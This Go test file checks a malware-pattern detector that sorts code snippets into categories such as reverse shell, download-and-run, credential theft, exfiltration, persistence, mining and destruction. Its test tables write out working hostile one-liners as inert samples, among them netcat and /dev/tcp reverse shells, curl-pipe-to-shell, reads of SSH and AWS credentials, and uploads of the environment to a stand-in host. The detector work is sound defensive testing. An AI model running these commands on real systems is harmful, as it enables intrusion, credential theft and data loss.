package rules

import (
	"slices"
	"strings"
	"testing"
)

func patternNames(text string) (names []string) {
	for _, p := range Source(text) {
		names = append(names, p.Name)
	}
	return names
}

// Each pattern is seen in code as it is found in the wild, inert here.
func TestSource(t *testing.T) {
	for _, tt := range []struct{ want, text string }{
		{"reverse-shell", `bash -i >& /dev/tcp/192.0.2.1/4444 0>&1`},
		{"reverse-shell", `import socket,subprocess,os;s=socket.socket();s.connect(("192.0.2.1",1));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])`},
		{"reverse-shell", "import socket as k\nfrom pty import spawn\nspawn('sh')"},
		{"reverse-shell", `rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.1 1 >/tmp/f`},
		{"reverse-shell", "s=__import__('socket').socket()\ns.connect(a)\n__import__('os').popen(s.recv(99))"},
		{"reverse-shell", `nc -e /bin/sh 192.0.2.1 4444`},
		{"download-and-run", `curl -s http://192.0.2.1/x | sh`},
		{"download-and-run", `wget http://192.0.2.1/x -O /tmp/x && chmod +x /tmp/x && /tmp/x`},
		{"download-and-run", "from urllib.request import urlopen\nexec(urlopen('http://192.0.2.1').read())"},
		{"download-and-run", `import requests; exec(requests.get("http://192.0.2.1").text)`},
		{"download-and-run", `powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1')"`},
		{"credentials", `cat ~/.ssh/id_rsa`},
		{"credentials", `open(os.path.expanduser("~/.aws/credentials")).read()`},
		{"credentials", `curl http://169.254.169.254/latest/meta-data`},
		{"exfiltration", `curl -d @$HOME/.ssh/id_ed25519 http://192.0.2.1`},
		{"environment-exfiltration", `import os,requests;requests.post("http://192.0.2.1",json=dict(os.environ))`},
		{"environment-exfiltration", `env | nc 192.0.2.1 80`},
		{"host-exfiltration", `curl http://192.0.2.1/$(whoami)`},
		{"persistence", `(crontab -l; echo "* * * * * /tmp/x") | crontab -`},
		{"persistence", `echo x >> ~/.bashrc`},
		{"persistence", `echo /tmp/x | at now + 1 hour`},
		{"persistence", `open("/home/ann/.ssh/authorized_keys","a").write(k)`},
		{"mining", `./xmrig -o stratum+tcp://192.0.2.1:3333`},
		{"destruction", `rm -rf /`},
		{"destruction", `import shutil; shutil.rmtree(p)`},
		{"native", `import ctypes; ctypes.CDLL(None)`},
		{"privileges", `docker -H unix:///var/run/docker.sock ps`},
		{"scanner", `import fickling.hook as h; h.remove_hook()`},
		{"drop", `fetch("https://webhook.site/1")`},
		{"process", `import os; os.system("true")`},
		{"dynamic-code", `eval(x)`},
		{"network", `ping -c1 192.0.2.1`},
		{"files", `open("x").read()`},
		{"environment", `os.getenv("HOME")`},
		{"host", `whoami`},
		{"background", `nohup sleep 1`},
	} {
		if got := patternNames(tt.text); !slices.Contains(got, tt.want) {
			t.Errorf("%s\n%q, want %s", tt.text, got, tt.want)
		}
	}
}

// In a program of several lines a word means what it stands for there.
func TestCommonWords(t *testing.T) {
	for _, tt := range []struct{ text, want string }{
		{"import requests\ndef preprocess(self, requests):\n  return [data.get('body') for data in requests]", ""},
		{"self.model.eval()\ndata = json.loads(body)\nself.model = torch.compile(self.model)\nwords = re.compile('a')  # compile once", ""},
		{"import requests\nimage = requests.get(url)\nmodel.eval()\njson.loads(image.text)", "network"},
		{"import requests as r\nexec(r.get(url).text)", "download-and-run"},
		{"from requests import get\neval(get(url).text)", "download-and-run"},
		{"import requests\nlist(map(eval, requests.get(url).text))", "download-and-run"},
		{"import requests\nbuiltins.eval(requests.get(url).text)", "download-and-run"},
		{"import requests\npickle.loads(requests.get(url).content)", "download-and-run"},
		{"import requests\nf = eval\nf(requests.get(url).text)", "download-and-run"},
		{"import requests\nc = compile(requests.get(url).text, '', 'exec')", "download-and-run"},
	} {
		names := patternNames(tt.text)
		worst := ""
		if len(names) > 0 {
			worst = names[0]
		}
		if worst != tt.want {
			t.Errorf("%q: %q, want %q first", tt.text, names, tt.want)
		}
	}
}

// Code that does nothing shows nothing, and the worst stands first.
func TestSourceGrades(t *testing.T) {
	for _, text := range []string{"", "true", "x = 1 + 2", "def forward(self, x):\n  return torch.relu(self.fc(x))", "sleep 1", "print('hello')",
		"statistics are kept\nat training time, and that now\nat evaluation"} {
		if got := patternNames(text); len(got) > 0 {
			t.Errorf("%q: %q", text, got)
		}
	}
	found := Source("import os\nos.system('curl http://192.0.2.1|sh')")
	for i := 1; i < len(found); i++ {
		if found[i].Severity.Rank() > found[i-1].Severity.Rank() {
			t.Errorf("%+v", found)
		}
	}
	if text := sentence(found); !strings.HasPrefix(text, "downloads something and runs it (curl, ") {
		t.Errorf("%q", text)
	}
}

// What shows a pattern comes from the table alone: no text of a file gets into a report by it.
func FuzzSource(f *testing.F) {
	f.Add("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")
	f.Add("import base64;exec(base64.b64decode('eA=='))")
	known := ""
	for _, s := range signs() {
		known += s.words + " " + s.commands + " " + s.parts + " "
	}
	f.Fuzz(func(t *testing.T, text string) {
		for _, p := range Source(text) {
			for _, word := range strings.Fields(strings.ReplaceAll(p.Seen, ", ", " ")) {
				if !strings.Contains(known, word) {
					t.Errorf("%q is not from the table", word)
				}
			}
		}
	})
}
